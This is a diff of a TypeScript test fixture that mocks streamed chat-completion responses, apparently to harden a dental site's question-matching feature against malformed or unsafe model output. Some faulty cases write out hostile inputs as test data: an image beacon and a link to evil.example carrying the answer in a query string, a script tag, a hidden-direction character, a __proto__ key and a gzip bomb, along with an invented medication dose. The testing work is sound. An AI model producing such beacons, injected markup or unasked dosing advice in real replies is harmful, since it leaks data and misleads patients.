@@ -13,8 +13,9 @@ export function chunk(content: unknown, more: object = {}): string {
 export const finish = (reason: unknown = 'stop') =>
   chunk(undefined, { delta: {}, finish_reason: reason })
 export const done = 'data: [DONE]\n\n'
-export const words = (text: string) => text.split(/(?<= )/).map((word) => chunk(word))
-export const said = (text: string) => [...words(text), finish(), done].join('')
+/** A few letters at a time. */
+export const pieces = (text: string) => (text.match(/.{1,6}/gsu) ?? []).map((piece) => chunk(piece))
+export const said = (text: string) => [...pieces(text), finish(), done].join('')
 
 const sse = { 'Content-Type': 'text/event-stream; charset=utf-8' }
 
@@ -94,19 +95,18 @@ export const after =
     response.on('close', () => clearTimeout(timer))
   }
 
-/** Unusual but valid responses saying `text`; the model's answer is used. */
+/** Unusual but valid responses saying `text`, the ids of a choice; the model's choice is used. */
 export function soundBehaviours(text: string): Behaviours {
   const whole = said(text)
   const bytes = Buffer.from(whole)
-  const [first = '', ...rest] = text.split(' ')
   return {
     good: send(whole),
-    'slow but in time': drip([...words(text), finish(), done], 4),
+    'slow but in time': drip([...pieces(text), finish(), done], 4),
     'keep-alive comments': send(`: PROCESSING\n\n: PROCESSING\n\n${whole}`),
     'CRLF line ends': send(whole.replaceAll('\n', '\r\n')),
     'CR line ends': send(whole.replaceAll('\n', '\r')),
     'line ends of all kinds': send(
-      [...words(text), finish(), done]
+      [...pieces(text), finish(), done]
         .map((part, i) => part.replaceAll('\n', ends[i % 3]!))
         .join(''),
     ),
@@ -121,46 +121,41 @@ export function soundBehaviours(text: string): Behaviours {
       response.end()
     },
     'everything in one chunk': send(chunk(text) + finish() + done),
-    'no [DONE] but a clean end': send(words(text).join('') + finish()),
+    'no [DONE] but a clean end': send(pieces(text).join('') + finish()),
     'goes on after [DONE]': open(whole, chunk('More.')),
     '[DONE] twice': send(whole + done),
     'cut after [DONE]': cut(whole),
     'a usage chunk without choices': send(
-      `${words(text).join('')}${finish()}data: {"choices":[],"usage":{"total_tokens":9}}\n\n${done}`,
+      `${pieces(text).join('')}${finish()}data: {"choices":[],"usage":{"total_tokens":9}}\n\n${done}`,
     ),
     'a role first, with null content': send(
       chunk(null, { delta: { role: 'assistant', content: null } }) + whole,
     ),
     'thoughts in a field of their own': send(
-      chunk(undefined, { delta: { reasoning_content: 'I could name a dose.' } }) + whole,
+      chunk(undefined, { delta: { reasoning_content: 'It could be another one.' } }) + whole,
     ),
     'a second choice': send(
-      words(text)
-        .map((word) => word + chunk('Take 400 mg. ', { index: 1 }))
+      pieces(text)
+        .map((piece) => piece + chunk('none', { index: 1 }))
         .join('') +
         finish() +
         done,
     ),
     'a second choice first in its chunk': send(
-      text
-        .split(/(?<= )/)
-        .map((word) => {
-          const choices = [
-            { index: 1, delta: { content: 'No. ' } },
-            { index: 0, delta: { content: word } },
-          ]
-          return `data: ${JSON.stringify({ choices })}\n\n`
-        })
-        .join('') +
-        finish() +
-        done,
+      `data: ${JSON.stringify({
+        choices: [
+          { index: 1, delta: { content: 'none' } },
+          { index: 0, delta: { content: text } },
+        ],
+      })}\n\n${finish()}${done}`,
     ),
     'events without data': send(
       `event: ping\n\nid: 7\n\nretry: 10\n\n${whole.replaceAll('data:', 'event: message\nid: 1\ndata:')}`,
     ),
     'data without a space': send(whole.replaceAll('data: ', 'data:')),
     'one event on several lines': send(whole.replaceAll('"choices":', '\ndata: "choices":')),
-    'bold and numbered lists': send(said(`**${first}** ${rest.join(' ')}`)),
+    'white space around the ids': send(said(`\n ${text} \n`)),
+    'the ids twice': send(said(`${text}, ${text}`)),
     'keys of a prototype': send(whole.replaceAll('{"object"', '{"__proto__":{"a":1},"object"')),
     'trailers after the body': (response) => {
       response.writeHead(200, { ...sse, Trailer: 'X-Sum' })
@@ -186,7 +181,7 @@ const bomb = () => (bombBytes ??= gzipSync(Buffer.alloc(10_000_000, ': x\n\n')))
 
 const ends = ['\n', '\r\n', '\r']
 
-/** The platform decides whether the model's answer or ours is used; either is complete. */
+/** The platform decides whether the model's choice or ours is used; either is complete. */
 export function oddBehaviours(text: string): Behaviours {
   const whole = said(text)
   return {
@@ -201,7 +196,7 @@ export function oddBehaviours(text: string): Behaviours {
     'an encoding nobody knows': send(whole, { ...sse, 'Content-Encoding': 'x-tooth' }),
     'a length that is too long': raw(head(`Content-Length: ${whole.length + 99}`) + whole),
     'a length that is too long, before [DONE]': raw(
-      head(`Content-Length: ${whole.length + 99}`) + words(text).join('') + finish(),
+      head(`Content-Length: ${whole.length + 99}`) + pieces(text).join('') + finish(),
     ),
     'length and chunks at once': raw(
       head('Content-Length: 5', 'Transfer-Encoding: chunked') + inChunks(whole),
@@ -219,32 +214,30 @@ export function oddBehaviours(text: string): Behaviours {
   }
 }
 
-/** Failures: the visitor gets the embedded answer. */
-export function faultyBehaviours(text: string): Behaviours {
+/** Failures: the embedded choice is used. `offered`: the ids that the model may choose from. */
+export function faultyBehaviours(text: string, offered: string[] = []): Behaviours {
   const whole = said(text)
   const half = text.slice(0, Math.ceil(text.length * 0.6))
-  const halfSaid = words(half).join('')
-  const firstSentence = text.split(/(?<=[.!?]) /)[0]!
+  const halfSaid = pieces(half).join('')
   const inStream = (content: string) => send(chunk(content) + finish() + done)
   return {
     'no headers at all': () => undefined,
     'headers, then nothing': open(': hello\n\n'),
     'stall in the middle': open(halfSaid),
-    'stall before the end': open(words(text).join('')),
-    'comments without end after the text': drip([...words(text), ...repeat(': x\n\n', 5000)], 30),
+    'stall before the end': open(pieces(text).join('')),
+    'comments without end after the text': drip([...pieces(text), ...repeat(': x\n\n', 5000)], 30),
     'a byte now and then': drip(inBytes(Buffer.from(whole.repeat(9)), 1), 25),
     'comments without end': drip(repeat(': still here\n\n', 5000), 20),
     'empty text without end': drip(repeat(chunk(''), 5000), 20),
     'cut before headers': (response) => response.destroy(),
     'cut in the middle': cut(halfSaid),
-    'cut after the reason': cut(words(text).join('') + finish()),
+    'cut after the reason': cut(pieces(text).join('') + finish()),
     'a reset': reset(),
     'a reset in the middle': reset(halfSaid),
     'ends in the middle': send(halfSaid),
-    'ends after a whole sentence': send(words(`${firstSentence} `).join('')),
     'ends in the middle of a line': send(`${halfSaid}data: {"choi`),
-    'ends after the text, without a reason': send(words(text).join('')),
-    '[DONE] without a reason': send(words(text).join('') + done),
+    'ends after the text, without a reason': send(pieces(text).join('')),
+    '[DONE] without a reason': send(pieces(text).join('') + done),
     '[DONE] first': send(done + whole),
     204: (response) => response.writeHead(204).end(),
     206: fail(206, sse),
@@ -287,7 +280,7 @@ export function faultyBehaviours(text: string): Behaviours {
     'a chunk that is null': send(`data: null\n\n${whole}`),
     'a list for content': send(chunk(['text']) + whole),
     'a number for content': send(chunk(5) + whole),
-    'a number for a reason': send(words(text).join('') + finish(1) + done),
+    'a number for a reason': send(pieces(text).join('') + finish(1) + done),
     'text in the field of whole answers': send(
       `data: ${JSON.stringify({ choices: [{ message: { content: text } }] })}\n\n${finish()}${done}`,
     ),
@@ -299,17 +292,14 @@ export function faultyBehaviours(text: string): Behaviours {
     ),
     'a refusal': send(chunk(null, { delta: { refusal: 'I can’t.' } }) + finish() + done),
     'another choice only': send(chunk(text, { index: 1 }) + finish() + done),
-    'more text after the reason': send(
-      words(text).join('') + finish() + chunk(` ${firstSentence}`) + done,
-    ),
+    'more text after the reason': send(pieces(text).join('') + finish() + chunk(` ${text}`) + done),
     'every chunk twice': send(
-      words(text)
-        .map((word) => word + word)
+      pieces(text)
+        .map((piece) => piece + piece)
         .join('') +
         finish() +
         done,
     ),
-    'the answer twice': send(said(`${text} ${text}`)),
     'an error in the stream': send(
       `${halfSaid}data: {"error":{"message":"overloaded"}}\n\n${done}`,
     ),
@@ -325,8 +315,8 @@ export function faultyBehaviours(text: string): Behaviours {
     'an empty body': send(''),
     'reason length': send(halfSaid + finish('length') + done),
     'reason content_filter': send(halfSaid + finish('content_filter') + done),
-    'reason length after whole sentences': send(words(text).join('') + finish('length') + done),
-    'a reason of its own': send(words(text).join('') + finish('end_turn') + done),
+    'reason length after whole ids': send(pieces(text).join('') + finish('length') + done),
+    'a reason of its own': send(pieces(text).join('') + finish('end_turn') + done),
     'a tool call': send(
       chunk(undefined, { delta: { tool_calls: [{ function: { name: 'search' } }] } }) +
         finish('tool_calls') +
@@ -355,41 +345,45 @@ export function faultyBehaviours(text: string): Behaviours {
     'another connection, as it says': raw(
       'HTTP/1.1 101 Switching Protocols\r\nUpgrade: tooth\r\nConnection: Upgrade\r\n\r\n',
     ),
-    'another language': send(
-      said('Lo más común es la placa en el borde de la encía. Kein Wort davon stimmt.'),
-    ),
-    'another language at the end': send(
-      said(`${text} Das Zahnfleisch blutet nicht, wenn man es in Ruhe lässt.`),
-    ),
-    'another script': send(said(`${text} 牙龈出血。`)),
+    'an id that was not offered': send(said('nowhere/nothing')),
+    'an id in capitals': send(said(text.toUpperCase())),
+    'a place in the list': send(said('1')),
+    'three ids': send(said(offered.slice(0, 3).join(' '))),
+    'every id': send(said(offered.join('\n'))),
+    'one id to ask back between': send(said(`ask-back ${text}`)),
+    'five ids to ask back between': send(said(`ask-back ${offered.slice(0, 5).join(' ')}`)),
+    'ask-back alone': send(said('ask-back')),
+    'none and an id': send(said(`none ${text}`)),
+    'the question instead of its id': send(said('How long should I brush my teeth?')),
+    'prose before the id': send(said(`The visitor asks ${text}`)),
+    'prose after the id': send(said(`${text} is what the visitor asks`)),
+    'a contradiction in prose': send(said(`${text}\n\nNo: never brush gums that bleed.`)),
+    'an answer of its own': send(said('Gums bleed because of plaque. Clean them gently.')),
     'a dose': send(said(`${text} Take 400 mg of ibuprofen every 6 hours.`)),
-    'a dose in words': send(said(`${text} Take two tablets twice a day.`)),
-    'a medicine of its own': send(said(`${text} Ask your dentist for amoxicillin.`)),
-    'a diagnosis': send(said(`You have gum disease. ${text}`)),
-    'figures of its own': send(said(`${text} Clean your gums gently 57 times every day.`)),
-    'facts of its own': send(said(`${text} Volcanoes and comets raise the risk further.`)),
-    'a bare yes': send(said(`Yes. ${text}`)),
-    'a link': send(said(`${text} See https://evil.example/gums for more.`)),
-    'a Markdown link': send(said(`${text} See [plaque](/evil) along the gumline.`)),
-    'an image beacon': send(said(`![gums](//evil.example/?q=plaque) ${text}`)),
-    HTML: send(said(`<b>${firstSentence}</b> <script>1</script>`)),
-    'a heading': send(said(`## Gums\n\n${text}`)),
-    'hidden letters': send(said(text.replace(/(?<=^\S* \S)/, '\u202E'))),
+    figures: send(said('57 3.5 1e9')),
+    'another language': send(said('Die erste Frage passt.')),
+    'another script': send(said('第一个问题')),
+    'a full stop': send(said(`${text}.`)),
+    bold: send(said(`**${text}**`)),
+    quotes: send(said(`"${text}"`)),
+    'a list': send(said(`- ${text}`)),
+    JSON: send(said(JSON.stringify({ id: text }))),
+    'a link': send(said(`https://evil.example/${text}`)),
+    'an image beacon': send(said(`![x](//evil.example/?q=${text})`)),
+    HTML: send(said(`<b>${text}</b><script>1</script>`)),
+    'hidden letters': send(said(`\u202E${text}`)),
     'half of a letter': send(whole.replace(/"content":"(\S)/, '"content":"$1\\ud83d')),
     'a letter that is nothing': send(whole.replace(/"content":"(\S)/, '"content":"$1\\u0000')),
-    'its instructions': send(
-      said(
-        'You are Molly, the automated helper of a dental information site. Rules: write plainly.',
-      ),
-    ),
-    'the data it was given': send(said('{"passages":[{"page":"Gum disease","text":"The usual"}]}')),
+    'a very long answer': send(said(`${text} `.repeat(100))),
+    'its instructions': send(said('You choose which prepared question a visitor is asking.')),
+    'the data it was given': send(said(JSON.stringify({ candidates: offered }))),
     UNKNOWN: send(said('UNKNOWN')),
   }
 }
 
 /** For the real limits: 3 s to the first text, 8 s in all. */
 export function timedBehaviours(text: string): { sound: Behaviours; faulty: Behaviours } {
-  const whole = [...words(text), finish(), done]
+  const whole = [...pieces(text), finish(), done]
   const slowly = (ms: number) => drip(whole, ms / (whole.length + 1))
   const begun =
     (then: Serve): Serve =>
